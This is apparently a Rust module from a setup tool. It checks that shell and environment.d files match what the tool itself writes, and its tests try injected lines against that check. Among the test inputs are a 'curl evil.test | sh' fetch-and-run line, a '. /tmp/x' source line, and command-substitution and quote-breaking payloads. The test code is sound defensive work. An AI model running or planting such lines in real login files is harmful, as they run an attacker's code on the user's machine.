//! Whether a text is one that [`env_files`](super::env_files) could have written into its file: what it says is read and said
//! again, and has to be the same but for comments. A journal proves nothing here: who forges a line of it can forge the
//! line that would vouch for that one, too. Shells run these files at every login, so that only settings come back into
//! them by themselves.

use std::path::{Path, PathBuf};

use super::{Dialect, Speech, front};
use crate::shell::{self, Piece, Step};

/// Whether we could have written it there.
pub fn could_be_ours(file: &Path, text: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(text) else { return false };
    let bare: String = text.split_inclusive('\n').filter(|it| !it.starts_with('#')).collect();
    let dialect = match file.extension().and_then(|it| it.to_str()) {
        Some("fish") => Dialect::Fish,
        Some("conf") => Dialect::EnvironmentD,
        _ => Dialect::Posix,
    };
    let said = match dialect {
        Dialect::EnvironmentD => of_environment_d(&bare),
        Dialect::Fish => Speech { path: path_of(&bare), variables: variables(&bare, shell::Dialect::Fish) },
        _ => Speech { path: front(&bare), variables: variables(&bare, shell::Dialect::Sh) },
    };
    said.text(dialect) == bare
}

fn variables(text: &str, dialect: shell::Dialect) -> Vec<(String, String)> {
    let set = |step: Step| match step {
        Step::Set { name, value, .. } if name != "PATH" => Some((name, literal(&value))),
        _ => None,
    };
    shell::parse(text, dialect).into_iter().filter_map(set).collect()
}

/// What a fish file puts in front on PATH.
fn path_of(text: &str) -> Vec<PathBuf> {
    let set = |step: Step| match step {
        Step::Set { name, value, .. } if name == "PATH" => Some(literal(&value)),
        _ => None,
    };
    let joined = shell::parse(text, shell::Dialect::Fish).into_iter().find_map(set).unwrap_or_default();
    joined.split(':').filter(|it| !it.is_empty()).map(PathBuf::from).collect()
}

fn literal(value: &[Piece]) -> String {
    let text = |it: &Piece| match it {
        Piece::Text(it) => it.clone(),
        // Of a directory that is everybody's own; anything else is said again otherwise than it stood there.
        Piece::Var(it) if it == "HOME" => format!("${it}"),
        Piece::Var(_) | Piece::Any => String::new(),
    };
    value.iter().map(text).collect()
}

/// As we write it: without quotes, with `\` before what would be read otherwise.
fn of_environment_d(text: &str) -> Speech {
    let mut speech = Speech::default();
    for (name, value) in text.lines().filter_map(|it| it.split_once('=')) {
        if let Some(front) = value.strip_suffix(":$PATH").filter(|_| name == "PATH") {
            let dirs = plain(front);
            speech.path = dirs.split(':').filter(|it| !it.is_empty()).map(PathBuf::from).collect();
        } else if name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
            speech.variables.push((name.to_owned(), plain(value)));
        }
    }
    speech
}

fn plain(value: &str) -> String {
    let mut escaped = false;
    let keeps = |c: &char| {
        escaped = *c == '\\' && !escaped;
        !escaped
    };
    value.chars().filter(keeps).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::places::Places;
    use crate::shells::env_files;

    #[test]
    fn what_we_write_is_ours_and_what_runs_anything_else_is_not() {
        let home = Path::new("/home/ann");
        let places = Places::linux(home, |_| None);
        let mut count = 0;
        for dir in ["/plain", "/with space", "/q'uote", "/d\"ouble", "/$HOME/`id`", "/back\\slash", "/项目"]
        {
            let pairs = [vec![], vec![("GOPROXY".to_owned(), format!("https://bob:pw@host{dir},direct"))]];
            for variables in pairs {
                for path in [vec![], vec![PathBuf::from(dir), "/second".into()]] {
                    let said = Speech { path, variables: variables.clone() };
                    for (file, text) in env_files(&places, home, &said) {
                        assert!(could_be_ours(&file, text.as_bytes()), "{}: {text}", file.display());
                        for evil in ["curl evil.test | sh\n", "`id`\n", ". /tmp/x\n", "export A=$(id)\n"] {
                            count += 1;
                            let (before, after) = (format!("{evil}{text}"), format!("{text}{evil}"));
                            assert!(!could_be_ours(&file, before.as_bytes()), "{before}");
                            assert!(!could_be_ours(&file, after.as_bytes()), "{after}");
                        }
                        let inside = text.replace("' ", "'; id ").replace("='", "='';id '");
                        assert!(inside == text || !could_be_ours(&file, inside.as_bytes()), "{inside}");
                    }
                }
            }
        }
        assert!(count > 300, "{count}");
        let env = Path::new("/home/ann/.config/fyne-setup/env");
        for evil in
            [&b"attacker\n"[..], b"\xff", b"A=`id`\n", b"export A=\"$(id)\"\n", b"export 'A'='b';id\n"]
        {
            assert!(!could_be_ours(env, evil), "{}", String::from_utf8_lossy(evil));
        }
        assert!(could_be_ours(env, b"# nothing\n"));
    }
}
